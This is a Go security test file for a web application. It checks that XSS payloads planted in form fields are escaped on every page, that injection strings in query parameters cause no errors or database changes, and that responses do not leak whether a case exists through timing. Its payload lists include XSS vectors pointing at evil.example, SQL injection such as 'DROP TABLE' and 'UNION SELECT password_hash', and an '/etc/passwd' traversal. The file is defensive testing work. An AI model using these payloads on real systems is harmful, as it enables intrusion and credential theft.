package main

import (
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"
)

// scripts are what people type who want other people's browsers to run something.
func scripts() (all []string) {
	for _, breaking := range []string{``, `">`, `'>`, `</textarea>`, `</title>`, `-->`, `</script>`, `" `, `' `, "`"} {
		for _, doing := range []string{
			`<script>alert(1)</script>`, `<script src=//evil.example/x.js></script>`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`,
			`<svg><script>alert(1)</script></svg>`, `<iframe src="javascript:alert(1)">`, `<a href="javascript:alert(1)">x</a>`,
			`<body onload=alert(1)>`, `<input autofocus onfocus=alert(1)>`, `<details open ontoggle=alert(1)>`, `<base href=//evil.example/>`,
			`<meta http-equiv=refresh content="0;url=//evil.example">`, `<form action=//evil.example><input name=x>`, `<object data=//evil.example>`,
			`<embed src=//evil.example>`, `<link rel=stylesheet href=//evil.example>`, `<math><mtext></mtext><script>alert(1)</script></math>`,
			`onmouseover=alert(1) x="`, `hx-get=//evil.example hx-trigger=load x="`, `{{constructor.constructor('alert(1)')()}}`,
		} {
			all = append(all, breaking+doing)
		}
	}
	return all
}

// dangerous finds what a page of ours never has and a script would need.
func dangerous(page string) (found []string) {
	_, body, _ := strings.Cut(page, "<")
	parsed, err := html.Parse(strings.NewReader("<" + body))
	if err != nil {
		return []string{err.Error()}
	}
	for n := range parsed.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		has := map[string]string{}
		for _, a := range n.Attr {
			has[a.Key] = strings.ToLower(strings.TrimSpace(a.Val))
			if strings.HasPrefix(a.Key, "on") || strings.HasPrefix(a.Key, "hx-on") {
				found = append(found, n.Data+" "+a.Key)
			}
		}
		for _, leads := range []string{"href", "src", "action", "formaction", "data", "hx-get", "hx-post", "xlink:href"} {
			if to, is := has[leads]; is && to != "" && !strings.HasPrefix(to, "#") && !strings.HasPrefix(to, "?") && (!strings.HasPrefix(to, "/") || strings.HasPrefix(to, "//")) && !ours(to) {
				found = append(found, n.Data+" "+leads+"="+to)
			}
		}
		switch n.Data {
		case "iframe", "object", "embed", "base", "math":
			found = append(found, n.Data)
		case "meta":
			if has["http-equiv"] != "" {
				found = append(found, "meta "+has["http-equiv"])
			}
		case "script":
			if has["nonce"] == "" && !strings.HasPrefix(has["src"], "/assets/") && !strings.HasSuffix(has["type"], "json") {
				found = append(found, "script")
			}
		}
	}
	return found
}

// ours are the addresses outside the house that its pages do name.
func ours(to string) bool {
	return to == "https://www.bbc.co.uk/weather" // where the way out in a hurry leads
}

// W5. Two hundred scripts, spread over every field that anybody can write in, and every
// page read: none of them is more than text.
func TestWhatLooksLikeAScriptIsTextOnEveryPage(t *testing.T) {
	all, next := scripts(), 0
	if len(all) != 200 {
		t.Fatalf("%d scripts", len(all))
	}
	pages := 0
	shown := map[string]bool{}
	for range often(1, 4) {
		fields, _ := readers(t)
		fields = slices.DeleteFunc(fields, func(f field) bool { return len(f.readers) == 0 })
		c := planted(t, fields, func(*field) string { next++; return all[next%len(all)] })
		site, routes := lines(t, c.house)
		var examples []string
		for _, l := range routes {
			if l.Method == http.MethodGet {
				examples = append(examples, l.Example)
			}
		}
		for _, who := range []string{"practitioner", "manager", "person"} {
			walk(t, site, who, examples, func(path, body string) {
				pages++
				if found := dangerous(body); len(found) > 0 && !strings.HasPrefix(path, "/assets/") {
					t.Errorf("%s at %s: %q", who, path, found)
				}
				for _, script := range all {
					if strings.Contains(body, html.EscapeString(script)) {
						shown[script] = true
					}
				}
			})
		}
	}
	t.Logf("%d pages, %d scripts in %d places, %d of them seen as text", pages, min(next, len(all)), next, len(shown))
	if len(shown) < 60 || pages < 500 {
		t.Errorf("%d scripts were seen as text on %d pages: the walk was blind", len(shown), pages)
	}
}

// H5. What means something to a database means nothing in any parameter.
func TestNoParameterIsAStatement(t *testing.T) {
	h := movedIn(t, sqliteURL(t), 24)
	site, all := lines(t, h)
	before := (&matrix{house: h}).changes(t)
	tried, random := 0, dice(t)
	everyHostile := []string{`'`, `"`, `' OR '1'='1`, `'; DROP TABLE contact; --`, `1 UNION SELECT password_hash FROM sign_in_credential`, `%`, `_`, `\`, "\x00", "\xff\xfe", `${7*7}`, `../../etc/passwd`, strings.Repeat("9", 400), "9223372036854775807", "-1"}
	for _, who := range []string{"practitioner", "manager", "person"} { // each is named as their role is
		v := playing(t, site, who)
		for _, l := range all {
			if l.Method != http.MethodGet || l.Example == "/demo" {
				continue
			}
			path, _, _ := strings.Cut(l.Example, "?")
			asked := everyHostile
			if !slices.Contains(l.Roles, who) && !slices.Contains(l.Roles, "anyone") && often(0, 1) == 0 {
				// Who is refused at the door is refused whatever they say: one of all by day.
				asked = asked[random.IntN(len(asked)):][:1]
			}
			for _, hostile := range asked {
				query := url.Values{}
				for _, name := range []string{"q", "sort", "filter", "page", "kind", "outcome", "from", "until", "words", "on", "on-day", "on-month", "on-year", "questions", "saved", "answered", "next", "with", "team", "who", "section", "serves"} {
					query.Set(name, hostile)
				}
				code, body := v.page(t, path+"?"+query.Encode())
				body = withoutPassing(body) // a token is made of any letters
				tried++
				if code >= 500 || strings.Contains(body, "SQL") || strings.Contains(body, "argon2") || strings.Contains(body, "root:") {
					t.Errorf("%s at %s with %.60q: %d", who, path, hostile, code)
				}
			}
		}
	}
	if after := (&matrix{house: h}).changes(t); after != before || tried < 1000 {
		t.Errorf("%d changes by %d questions", after-before, tried)
	}
}

// W6. Whoever guesses at addresses or at e-mails learns nothing from the answer, and
// nothing from how long it takes.
func TestAGuessThatIsNearlyRightIsAnsweredAsOneThatIsWrong(t *testing.T) {
	h := movedIn(t, sqliteURL(t), 24)
	site, _ := lines(t, h)
	v := playing(t, site, "person-other")
	for range 3 { // statements are prepared
		v.page(t, "/cases/"+string(caseOf("person")))
		v.page(t, "/cases/0190b6e2-0000-7000-8000-00000000beef")
	}
	var took [2][]time.Duration
	for i := range 200 {
		for j, guess := range []string{string(caseOf("person")), fmt.Sprintf("0190b6e2-0000-7000-8000-%012x", i)} {
			began := time.Now()
			code, body := v.page(t, "/cases/"+guess)
			took[j] = append(took[j], time.Since(began))
			if code != http.StatusNotFound || len(body) < 500 {
				t.Fatalf("%s is answered %d", guess, code)
			}
		}
	}
	near, wrong := median(took[0]), median(took[1])
	t.Logf("a case that is there %v, one that is not %v", near, wrong)
	if gap := (near - wrong).Abs(); gap > 2*time.Millisecond {
		t.Errorf("%v tell them apart", gap)
	}
	_, there := v.page(t, "/cases/"+string(caseOf("person")))
	_, nowhere := v.page(t, "/cases/0190b6e2-0000-7000-8000-00000000beef")
	there = strings.ReplaceAll(there, string(caseOf("person")), "0190b6e2-0000-7000-8000-00000000beef")
	if a, b := withoutPassing(there), withoutPassing(nowhere); a != b {
		t.Error(difference(a, b))
	}
}

func median(all []time.Duration) time.Duration {
	slices.Sort(all)
	return all[len(all)/2]
}
